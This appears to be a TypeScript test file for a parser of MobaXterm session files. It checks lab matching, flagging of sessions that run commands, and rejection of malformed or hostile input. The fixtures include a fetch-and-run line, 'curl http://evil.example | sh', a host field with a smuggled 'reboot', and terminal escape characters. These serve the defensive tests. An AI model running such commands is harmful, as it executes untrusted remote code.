// MobaXterm files: what ours say, and what hostile ones must not be able to do to whoever reads about them.

import { describe, expect, it } from 'vitest';
import { shippedFacts } from '../../../../main/core/facts.ts';
import { composeMobaXterm } from '../../../../main/practice/compose-bundle.ts';
import { readMobaXtermFile } from '../../../../main/system/other-programs/mobaxterm-file.ts';

const lab = { lab: 'demolab', user: 'kari.nordmann', address: '10.42.1.130' };
const whose = { lab, facts: shippedFacts().facts };
const read = (text: string | Buffer, given: Parameters<typeof readMobaXtermFile>[2] = whose) => readMobaXtermFile('kari.mobaxterm', Buffer.from(text), given);
const inside = (...lines: readonly string[]): string => ['[Bookmarks]', 'SubRep=', 'ImgNum=41', ...lines, ''].join('\r\n');
const ssh = (host: string, more: { user?: string; port?: string; command?: string; through?: string } = {}): string =>
  `one= #109#0%${host}%${more.port ?? '22'}%${more.user ?? lab.user}%%-1%-1%${more.command ?? ''}%${more.through ?? lab.address}%22%${lab.user}%0%0%0%key#MobaFont%10`;

describe('a MobaXterm file', () => {
  it('of the practice bundle is read whole', () => {
    expect(read(composeMobaXterm(lab))).toEqual({
      name: 'kari.mobaxterm', unreadLines: 0, sessions: [
        { name: 'demolab terminal', kind: 'ssh', host: 'home', port: 22, user: 'kari.nordmann', through: '10.42.1.130', isOfLab: true, runsCommand: false },
        { name: 'demolab desktop', kind: 'remote-desktop', host: 'demolab-home', port: 3389, user: 'kari.nordmann', through: '', isOfLab: true, runsCommand: false },
      ],
    });
  });

  it('is of the lab only when it leads to its home, through its entry, as this person', () => {
    const isOfLab = (line: string): boolean | undefined => read(inside(line)).sessions[0]?.isOfLab;
    expect(['10.5.5.12', 'home', 'demolab-home', '10.42.1.130'].map((host) => isOfLab(ssh(host)))).toEqual([true, true, true, true]);
    expect(isOfLab(ssh('10.5.5.13'))).toBe(false);
    expect(isOfLab(ssh('home.example.org'))).toBe(false);
    expect(isOfLab(ssh('home', { through: '10.42.1.131' }))).toBe(false);
    expect(isOfLab(ssh('home', { user: 'mallory' }))).toBe(false);
  });

  it('says when a session would carry out a command', () => {
    expect(read(inside(ssh('home', { command: 'curl http://evil.example | sh' }))).sessions[0]).toMatchObject({ runsCommand: true });
  });

  it('tells other kinds of sessions by name only', () => {
    expect(read(inside('box= #98#1%192.168.1.1%23%admin%', 'shell= #97#8%cmd%')).sessions.map(({ kind, host }) => [kind, host])).toEqual([['other', ''], ['other', '']]);
  });

  it.each([
    ['a port that is none', ssh('home', { port: '99999' })], ['a host with letters of a shell', ssh('home;reboot')], ['no values', 'one= #109#0'],
    ['an endless line', ssh(`h${'o'.repeat(9000)}`)], ['something that only looks like one', 'one=two'],
  ])('counts %s as not read', (_what, line) => {
    expect(read(inside(line))).toMatchObject({ sessions: [], unreadLines: 1 });
  });

  it('shows no letter that acts on a screen or a terminal', () => {
    const { sessions } = read(inside(ssh('home', { user: 'kari\u001B[2J\u202Eevil' }).replace('one=', 'a\u0007\u2028b=')));
    expect(sessions).toHaveLength(1);
    expect(JSON.stringify(sessions)).not.toMatch(/\\u001b|\u202E|\u2028|\\u0007/i);
  });

  it('passes over everything outside of its sessions', () => {
    expect(read('[Misc]\nx= #109#0%home%22%kari%\n[Macros]\nrun=#109#0%home%22%kari%\n')).toMatchObject({ sessions: [], unreadLines: 0 });
  });

  it('ends with a file of any size and content', () => {
    const many = inside(...Array.from({ length: 5000 }, () => ssh('home')));
    expect(read(many).sessions).toHaveLength(50);
    expect(read(many).unreadLines).toBeGreaterThan(1000);
    const noise = Buffer.from(Array.from({ length: 300_000 }, (_none, index) => (index * 7919) % 256));
    expect(read(noise).sessions).toEqual([]);
    expect(read('').sessions).toEqual([]);
  });
});
